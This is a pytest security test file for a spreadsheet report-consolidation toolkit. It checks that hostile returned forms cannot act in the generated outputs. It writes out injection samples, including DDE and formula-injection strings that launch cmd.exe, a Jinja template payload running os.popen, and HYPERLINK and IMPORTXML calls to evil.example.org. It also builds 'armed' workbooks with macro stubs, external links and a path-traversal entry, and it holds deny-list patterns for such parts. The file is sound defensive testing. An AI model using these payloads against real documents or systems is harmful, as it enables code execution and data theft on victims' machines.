"""Nothing from a returned file acts in an output, nothing leaves the round folder, nothing is fetched."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator, Mapping
from datetime import date, datetime
from pathlib import Path
from xml.etree import ElementTree

import pytest
from samples import confirm

from toolkit.demo.clerks import OpenForm, put
from toolkit.model.findings import Code
from toolkit.rounds.beginning import ShippedPlan, init_round
from toolkit.rounds.consolidating import Consolidated, consolidate_round
from toolkit.rounds.round import Round
from toolkit.rounds.sending import make_forms

SAVED = datetime(2020, 11, 2, 8, 0)

#: What hostile or unlucky hands type. Each stands in an answer of a task, and must stand in an output as it is.
TYPED = (
    "{{7*7}}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", '=HYPERLINK("http://evil.example.org","bấm vào đây")',
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "{=SUM(A1:A9)}",
    "{% for x in (1,2) %}lặp{% endfor %}", "{%p if x %}", "{# ghi chú #}", "<w:p><w:r><w:t>lọt</w:t></w:r></w:p>", "]]><w:br/>",
    "R&D <10% & hơn", "&lt;b&gt;", "<script>alert(1)</script>", "http://evil.example.org/x", "mailto:ai@example.org",
    "file://evil.example.org/x", "\\\\evil.example.org\\x", "external:x.xlsx", "{\\rtf1\\object}", "INCLUDETEXT evil",
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"', "=IMPORTXML(\"http://evil.example.org\")", "&#x41;", "%s {0} $HOME `id`",
    "- gạch đầu dòng", "=DAI",
)
#: What follows "=DAI" in the armed files: more than a cell of Excel holds.
LONG = " lam" * 9000
#: As Excel stores them: a vertical tab, half of an emoji, a character there is none of; and how they are printed.
ESCAPED = {"đầu_x000B_cuối": "đầu cuối", "nửa_xD83D_mặt": "nửa\ufffdmặt", "không_xFFFF_có": "không\ufffdcó"}
#: The answer that a formula showed when the file was saved.
SHOWN = "kết quả của công thức"


def filled(form: bytes, texts: Iterator[str]) -> bytes:
    """The form answered in full, with the next of `texts` in every cell for words, and nowhere a percentage."""
    book = OpenForm(form)
    for row in book.task_rows:
        put(book.cell(row, "status"), "Đang thực hiện")
        put(book.cell(row, "percent"), "=1+1")
        for column in ("result", "difficulties", "proposals"):
            put(book.cell(row, column), next(texts))
    for column in ("content", "leads", "result"):
        put(book.cell(book.rows["X1"], column), next(texts))
    put(book.cell(book.rows["X1"], "status"), "Đã hoàn thành")
    for part in ("overall", "direction", "preparer"):
        put(book.free(part), next(texts))
    return book.saved(SAVED)


def endless(texts: tuple[str, ...]) -> Iterator[str]:
    """The texts over and over."""
    while True:
        yield from texts


_SHEET = "xl/worksheets/sheet1.xml"
_LINK = '<Relationship Id="{id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/>'
_OUTSIDE = ' TargetMode="External"'


def armed(content: bytes) -> bytes:
    """The workbook with a macro, an embedded object, a linked workbook, a linked picture, a hyperlink and a formula with an outside
    source, as Excel would store them; and with a text that no cell holds."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        parts = {name: package.read(name).replace(b"=DAI", f"=DAI{LONG}".encode()) for name in package.namelist()}
    links = "".join(_LINK.format(id=f"evil{number}", kind=kind, target=target, mode=mode) for number, (kind, target, mode) in enumerate((
        ("hyperlink", "http://evil.example.org/bam", _OUTSIDE), ("oleObject", "../embeddings/oleObject1.bin", ""),
        ("package", "../embeddings/evil.xlsx", ""), ("image", "http://evil.example.org/a.png", _OUTSIDE),
        ("attachedTemplate", "http://evil.example.org/a.dotm", _OUTSIDE))))
    rels = "xl/worksheets/_rels/sheet1.xml.rels"
    held = parts.get(rels, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
    parts[rels] = held.replace(b"</Relationships>", f"{links}</Relationships>".encode())
    formula = f'<f>HYPERLINK([1]x!A1,"bấm")</f><v>{SHOWN}</v>'
    answer = OpenForm(content).cell(OpenForm(content).rows["X1"], "result").coordinate
    sheet, count = re.subn(rf'(<c r="{answer}"[^>]*?) t="(?:s|inlineStr)">.*?</c>', rf'\1 t="str">{formula}</c>',
        parts[_SHEET].decode())
    assert count == 1
    parts[_SHEET] = sheet.replace("</worksheet>",
        "<hyperlinks><hyperlink ref='M7' r:id='evil0' xmlns:r='http://schemas.openxmlformats.org/"
                                  "officeDocument/2006/relationships'/></hyperlinks></worksheet>").encode()
    books = parts["xl/_rels/workbook.xml.rels"]
    outside = _LINK.format(id="evil9", kind="externalLink", target="externalLinks/externalLink1.xml",
        mode="") + _LINK.format(id="evil8", kind="vbaProject", target="vbaProject.bin", mode="")
    parts["xl/_rels/workbook.xml.rels"] = books.replace(b"</Relationships>", f"{outside}</Relationships>".encode())
    parts |= {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA Shell", "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0OLE",
              "xl/embeddings/evil.xlsx": b"PK\x03\x04", "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
              "../../evil.txt": b"out", "customUI/customUI.xml": b"<customUI onLoad='evil'/>"}
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return stream.getvalue()


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> tuple[Round, Consolidated]:
    """A whole round whose returns hold all of the above."""
    where = Round(tmp_path_factory.mktemp("ky") / "ky")
    init_round(where.folder, ShippedPlan())
    confirm(where.plan)
    forms = sorted(make_forms(where, date(2020, 11, 1)).outputs)
    texts = endless((*TYPED, *ESCAPED))
    for number, path in enumerate(forms[:12]):
        content = filled(path.read_bytes(), texts)
        if number % 2:
            path, content = path.with_suffix(".xlsm"), armed(content)
        (where.returns / path.name).write_bytes(content)
    for name, content in hostile_files(forms[12].read_bytes()).items():
        (where.returns / name).write_bytes(content)
    return where, consolidate_round(where)


def hostile_files(form: bytes) -> dict[str, bytes]:
    """Files that are no forms at all, with names as bad as a disk takes."""
    return {"=cmd|' !A0.xlsx": b"PK", "{{7*7}}.xlsx": b"", "<b>&.xlsx": b"%PDF", "mau_bao_cao.docx": form[:100],
        "bao_cao.html": b"<script>"}


# ── what the outputs hold ─────────────────────────────────────────────────────────────────────────
def packages(where: Round) -> dict[str, dict[str, bytes]]:
    """Every Office file of the results, taken apart."""
    found = {}
    for path in sorted(where.results.rglob("*")):
        if path.suffix in (".xlsx", ".docx"):
            with zipfile.ZipFile(path) as package:
                found[path.relative_to(where.results).as_posix()] = {name: package.read(name) for name in package.namelist()}
    return found


def formulas(parts: Mapping[str, bytes]) -> list[str]:
    """The formulas of a workbook: in cells, in rules, in lists to choose from, in names."""
    return [html.unescape(text) for name, part in parts.items() if name.startswith(("xl/worksheets/sheet", "xl/workbook.xml"))
            for _, text in re.findall(r"<(f|formula[12]?|definedName)\b[^>/]*>(.*?)</\1>", part.decode(), re.DOTALL)]


def texts_of(parts: Mapping[str, bytes]) -> str:
    """All the texts of a package, as a program reads them."""
    return "\n".join("".join(ElementTree.fromstring(part).itertext()) for name, part in parts.items() if name.endswith(".xml"))


_FORBIDDEN_PARTS = re.compile(r"vba|macro|embed|ole|externalLink|activeX|ctrlProp|customUI|connections|queryTable|\.bin$|\.\.", re.IGNORECASE)
_FORBIDDEN_MARKUP = re.compile(
    rb"TargetMode\s*=\s*[\"']External|<(?:\w+:)?(?:oleObjects?|object|hyperlink "
    rb"[^>]*r:id|externalReferences?|ddeLink|altChunk|control)\b"
    rb"|macroEnabled|vbaProject|attachedTemplate|<w:instrText[^>]*>[^<]*(?:DDE|INCLUDE|HYPERLINK|LINK)")


def test_every_form_is_read_and_no_part_of_an_output_acts(made: tuple[Round, Consolidated]) -> None:
    _, done = made
    assert len(done.consolidation.intake.returns) == 12
    for record in done.consolidation.intake.files:
        assert record.typed == record.consolidated + record.listed, record.file
        assert not {Code.FILE_FAILED, Code.ACCOUNTING_BROKEN} & {found.code for found in record.findings}, record.file
    where, _ = made
    found = packages(where)
    assert {"tong_hop.xlsx", "bao_cao.docx"} <= found.keys()
    for name, parts in found.items():
        assert not [part for part in parts if _FORBIDDEN_PARTS.search(part)], name
        for part, content in parts.items():
            assert not (bad := _FORBIDDEN_MARKUP.search(content)), (name, part, bad)


def test_formulas_are_the_toolkit_s_own_and_originals_are_not_touched(made: tuple[Round, Consolidated]) -> None:
    where, _ = made
    seen = 0
    for name, parts in packages(where).items():
        for formula in formulas(parts):
            texts = re.findall(r'"((?:[^"]|"")*)"', formula)
            rest = re.sub(r'"(?:[^"]|"")*"', "", formula)
            assert not re.search(r'["|@]|cmd|evil|HYPERLINK|WEBSERVICE|\[\d|IMPORT|A1:A9|1\+1', rest, re.IGNORECASE), (name, formula)
            assert len(formula) <= 8192, (name, formula)
            assert max((len(text) for text in texts), default=0) <= 255, (name, formula)
            seen += any("=1+1" in text for text in texts)
    assert seen > 10
    assert not [text for text in formulas(packages(where)["tong_hop.xlsx"]) if "!" not in text]
    before = {path.name: (path.read_bytes(), path.stat().st_mtime_ns) for path in where.returns.iterdir()}
    consolidate_round(where)
    assert {path.name: (path.read_bytes(), path.stat().st_mtime_ns) for path in where.returns.iterdir()} == before


def test_what_was_typed_stands_as_it_was_typed_and_the_report_runs_none_of_it(made: tuple[Round, Consolidated]) -> None:
    where, _ = made
    found = packages(where)
    back = "".join(texts_of(parts) for name, parts in found.items() if name.startswith("tra_lai/"))
    for written in (texts_of(found["tong_hop.xlsx"]), back):
        decoded = re.sub("_x([0-9A-F]{4})_", lambda match: chr(int(match[1], 16)), written)
        assert [text for text in (*TYPED, *ESCAPED.values(), SHOWN) if text not in decoded] == []
    written = texts_of(packages(where)["bao_cao.docx"])
    assert sum(text in written for text in TYPED) > 10
    assert any(text in written for text in TYPED if text[:2] in ("{{", "{%"))
    assert "uid=" not in written
    assert "lặplặp" not in written
    (path,) = where.results.rglob("*.csv")
    table = [*csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")))]
    assert any(f"=DAI{LONG}" in cell for row in table for cell in row)
    assert not [cell for row in table for cell in row if cell[:1] in ("=", "+", "@", "\t")]


WATCHED = """
import json, os, sys, tempfile
written, called, readers, began = set(), [], [], os.getpid()
CHANGES = {"os.rename": (0, 1), "os.mkdir": (0,), "os.remove": (0,), "os.rmdir": (0,), "os.link": (1,), "os.symlink": (1,),
           "os.truncate": (0,), "os.chmod": (0,), "os.utime": (0,), "os.chown": (0,), "shutil.rmtree": (0,)}
def note(path):
    written.add(os.path.realpath(path))
    if os.getpid() != began and not path.startswith(sys.argv[2]):  # what goes on from the command has a memory of its own
        with open(sys.argv[2] + ".other", "a") as other:
            other.write(path + "\\n")
def watch(event, arguments):
    if event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.startfile", "urllib.", "webbrowser.", "smtplib.")):
        called.append([event, repr(arguments)[:200]])
        note("called: " + event)
        raise RuntimeError(event)
    if event == "open":
        path, mode, flags = arguments
        if isinstance(path, str | bytes | os.PathLike) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND):
            note(os.fsdecode(path))
    for number in CHANGES.get(event, ()):
        if not isinstance(arguments[number], int):
            note(os.fsdecode(arguments[number]))
sys.addaudithook(watch)
from toolkit.cli.commands import main
from toolkit.intake import returns as intake
from toolkit.rounds.beginning import ShippedPlan
from toolkit.base import processes as worker_process
intake._MANY_FILES, pool = int(sys.argv[3]), worker_process.ProcessPoolExecutor
worker_process.ProcessPoolExecutor = lambda *settings: readers.append(1) or pool(*settings)
for command in json.loads(sys.argv[1]):
    try:
        main(command, standalone_mode=False)
    except SystemExit:
        pass
json.dump({"written": sorted(written), "called": called, "readers": len(readers)}, open(sys.argv[2], "w"))
"""


@pytest.mark.parametrize("few", [24, pytest.param(1000, marks=pytest.mark.nightly)], ids=["processes of its own read", "it reads itself"])
def test_a_run_writes_in_its_folder_alone_and_calls_nobody(few: int, tmp_path: Path) -> None:
    folders = {name: tmp_path / name for name in ("noi-lam-viec", "tam", "nha", "ky")}
    for name in ("noi-lam-viec", "tam", "nha"):
        folders[name].mkdir()
    ky, told = str(folders["ky"]), tmp_path / "told.json"
    commands = [["demo", ky], ["forms", ky], ["consolidate", ky], ["check", "--round", ky, str(Round(folders["ky"]).plan)]]
    environment = {**os.environ, "TMPDIR": str(folders["tam"]), "HOME": str(folders["nha"])}
    run = subprocess.run([sys.executable, "-B", "-c", WATCHED, json.dumps(commands), str(told), str(few)],
                         cwd=folders["noi-lam-viec"], env=environment, capture_output=True, text=True, check=False)
    assert run.returncode == 0, run.stderr
    seen = json.loads(told.read_text(encoding="utf-8"))
    assert seen["called"] == []
    other = tmp_path / "told.json.other"
    assert not other.exists() or set(other.read_text(encoding="utf-8").split()) == {"/dev/null"}
    assert (seen["readers"] > 0) is (few < 1000 and (os.cpu_count() or 1) > 1)
    allowed = (folders["ky"].resolve(), folders["tam"].resolve(), told.resolve())
    outside = [path for path in seen["written"] if not any(Path(path).is_relative_to(each) for each in allowed)]
    assert [path for path in outside if path != "/dev/null"] == []
    assert any(path.endswith("bao_cao.docx") for path in seen["written"])
    assert [path for name in ("noi-lam-viec", "tam", "nha") for path in folders[name].iterdir()] == []
